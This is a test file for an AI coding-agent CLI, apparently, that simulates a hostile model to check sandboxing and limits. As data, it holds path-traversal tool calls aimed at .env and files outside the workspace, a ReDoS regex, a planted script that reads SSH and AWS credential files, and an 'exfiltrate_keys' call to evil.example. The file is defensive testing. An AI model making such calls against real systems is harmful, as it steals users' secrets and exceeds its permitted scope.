/**
 * A hostile model against the built binary: bad paths in every tool (and as the test filter),
 * a catastrophic regex, planted secrets in the home directory and above the workspace read by a
 * test the model "wrote", unknown tools forever, a chain that would never stop calling, and a
 * stream that stalls. Each test asserts what the user is told, what the context file keeps, and
 * that no secret reached any request.
 */
import { existsSync, mkdirSync, readdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { sandboxUnavailable } from '../../src/tools/sandbox.js';
import { toolReply, type FakeReply } from '../helpers/fake-anthropic.js';
import { GOAL, RELIABILITY_TIMEOUT_MS, makeWorld, plantSecrets, read, requestText } from './harness.js';

const SECRET = 'HOSTILE-PLANTED-SECRET-9931';

describe.concurrent('a hostile model', () => {
  it(
    'bad paths in every tool, a catastrophic regex and planted secrets: nothing leaks, the chain completes',
    async () => {
      const why = process.env.CI ? null : await sandboxUnavailable();
      let hostileTurns = 0;
      const w = await makeWorld({
        override: (t) => {
          if (t.prompt !== 'tdd_flow_controller' || t.turn !== 0 || t.forced !== null || hostileTurns > 0)
            return undefined;
          hostileTurns++;
          const abs = path.join(w.base, 'outside', 'secret.txt');
          const uses = [
            { name: 'read_file', input: { path: '.env' } },
            { name: 'read_file', input: { path: '../outside/secret.txt' } },
            { name: 'read_file', input: { path: abs } },
            { name: 'read_file', input: { path: 'out-link/secret.txt' } },
            { name: 'list_files', input: { path: '..' } },
            { name: 'search_code', input: { pattern: 'PLANTED', path: '..' } },
            { name: 'search_code', input: { pattern: 'PLANTED', path: '.git' } },
            { name: 'search_code', input: { pattern: '^(a+)+$', regex: true } },
            { name: 'write_file', input: { path: '../outside/pwned.txt', content: 'pwned' } },
            { name: 'edit_file', input: { path: '.env', old_string: 'KEY', new_string: 'PWNED' } },
            { name: 'run_tests', input: { filter: '.env' } },
            { name: 'run_tests', input: { filter: '../outside/secret.txt' } },
            { name: 'run_tests', input: { filter: abs } },
          ];
          return { toolUses: uses } satisfies FakeReply;
        },
      });
      try {
        const { home } = plantSecrets(w.base, SECRET);
        mkdirSync(path.join(w.base, 'outside'));
        writeFileSync(path.join(w.base, 'outside', 'secret.txt'), `${SECRET}\n`);
        writeFileSync(path.join(w.ws.root, '.env'), `API_KEY=${SECRET}\n`);
        const { symlinkSync } = await import('node:fs');
        symlinkSync(path.join(w.base, 'outside'), path.join(w.ws.root, 'out-link'));
        writeFileSync(path.join(w.ws.root, 'redos.txt'), `${'a'.repeat(48)}!\n`.repeat(2000));
        // The "model's test": runs the real suite, then prints every secret it can reach. Last, so
        // its lines are in what run_tests shows after a failure digest (the output's last lines).
        writeFileSync(
          path.join(w.ws.root, 'leak.cjs'),
          `const fs = require('fs');
const status = require('child_process').spawnSync(process.execPath, ['--test'], { stdio: 'inherit' }).status;
for (const f of [process.env.HOME + '/.ssh/id_rsa', process.env.HOME + '/.aws/credentials', process.env.HOME + '/.env', '${w.base}/.env']) {
  try { console.log('LEAK ' + fs.readFileSync(f, 'utf8')); } catch (e) { console.log('no ' + f + ': ' + e.code); }
}
process.exit(status);
`,
        );
        w.config({ test_command: ['node', 'leak.cjs'], sandbox: why === null ? 'required' : 'auto' });
        w.env.HOME = home;
        const r = await w.run('--yes', '--json', GOAL);
        expect(r.exitCode, r.stderr).toBe(0);
        expect(hostileTurns).toBe(1);
        const { ctx } = w.chain();
        expect(ctx.status).toBe('complete');
        const text = requestText(w.messages());
        // The hostile turn's results went back to the model, all refused.
        expect(text).toMatch(/refused: secrets files/);
        expect(text).toMatch(/refused: path is outside the workspace/);
        const leakAt = text.indexOf(SECRET);
        expect(leakAt, leakAt < 0 ? '' : text.slice(Math.max(0, leakAt - 600), leakAt + 100)).toBe(-1);
        expect(existsSync(path.join(w.base, 'outside', 'pwned.txt'))).toBe(false);
        expect(read(path.join(w.ws.root, '.env'))).toBe(`API_KEY=${SECRET}\n`);
        if (why === null) expect(text).toMatch(/no [^ ]*\.ssh\/id_rsa/);
        else
          console.info(
            `hostile: the sandbox part ran without bwrap (${why}); secrets in HOME were readable to the test`,
          );
        console.info(
          `hostile: ${w.messages().length} requests, 13 bad tool calls refused, 0 secrets in any request`,
        );
      } finally {
        await w.close();
      }
    },
    RELIABILITY_TIMEOUT_MS,
  );

  it(
    'a model that only ever calls unknown tools fails the step after the corrections cap (exit 1); resume then completes',
    async () => {
      let hostile = true;
      const w = await makeWorld({
        override: (t) =>
          hostile && t.prompt === 'requirement_disambiguator'
            ? toolReply('exfiltrate_keys', { to: 'evil.example' })
            : undefined,
      });
      try {
        const r = await w.run('--yes', '--json', '--until', 'requirements-clarification', GOAL);
        expect(r.exitCode, r.stderr).toBe(1);
        expect(r.stderr).toMatch(/called tools that are not available in this step .*after 2 correction/);
        const { ctx } = w.chain();
        expect(ctx.status).toBe('failed');
        const step = ctx.steps.find((s) => s.prompt === 'requirement_disambiguator')!;
        // One unforced turn (its call answered with an error, no correction), then the forced result ignored 3 times.
        expect(ctx.calls.filter((c) => c.step === step.n)).toHaveLength(4);
        hostile = false;
        const again = await w.run('resume', ctx.chain_id, '--yes', '--json');
        expect(again.exitCode, again.stderr).toBe(0);
        expect(w.chain().ctx.status).toBe('paused');
      } finally {
        await w.close();
      }
    },
    RELIABILITY_TIMEOUT_MS,
  );

  it(
    'the chain call ceiling stops a chain (exit 1) with the call count kept; a raised ceiling resumes it',
    async () => {
      const w = await makeWorld();
      try {
        w.config({ caps: { chain_calls: 4 } });
        const r = await w.run('--yes', '--json', '--until', 'context-building', GOAL);
        expect(r.exitCode, r.stderr).toBe(1);
        expect(r.stderr).toMatch(/limit of 4 calls \(caps\.chain_calls\)/);
        const { ctx } = w.chain();
        expect(ctx.calls).toHaveLength(4);
        expect(w.messages()).toHaveLength(4);
        w.config({ caps: { chain_calls: 1000 } });
        const again = await w.run('resume', ctx.chain_id, '--yes', '--json');
        expect(again.exitCode, again.stderr).toBe(0);
        expect(w.chain().ctx.calls.slice(0, 4)).toEqual(ctx.calls);
      } finally {
        await w.close();
      }
    },
    RELIABILITY_TIMEOUT_MS,
  );

  it(
    'a stream that stalls after its headers: retried, then exit 5 naming the stall; resume completes once the server answers',
    async () => {
      let stall = true;
      const w = await makeWorld({
        override: (t) =>
          stall && t.prompt === 'requirement_validator'
            ? { ...toolReply('record_findings', { summary: 'x' }), stallAfterEvents: 1 }
            : undefined,
      });
      try {
        w.config({ limits: { request_timeout_ms: 1000, max_retries: 1 } });
        const r = await w.run('--yes', '--json', '--until', 'requirements-clarification', GOAL);
        expect(r.exitCode, r.stderr).toBe(5);
        expect(r.stderr).toMatch(/stalled: no data for 1000 ms after the response began \(after 1 retry\)/);
        expect(r.stderr).not.toMatch(/ANTHROPIC_API_KEY/);
        const stalled = w
          .messages()
          .filter((m) => JSON.stringify(m.body).includes('Prompt: requirement_validator'));
        expect(stalled).toHaveLength(2);
        stall = false;
        const { ctx } = w.chain();
        const again = await w.run('resume', ctx.chain_id, '--yes', '--json');
        expect(again.exitCode, again.stderr).toBe(0);
        expect(readdirSync(w.contextsDir).filter((f) => f.endsWith('.tmp'))).toEqual([]);
      } finally {
        await w.close();
      }
    },
    RELIABILITY_TIMEOUT_MS,
  );
});
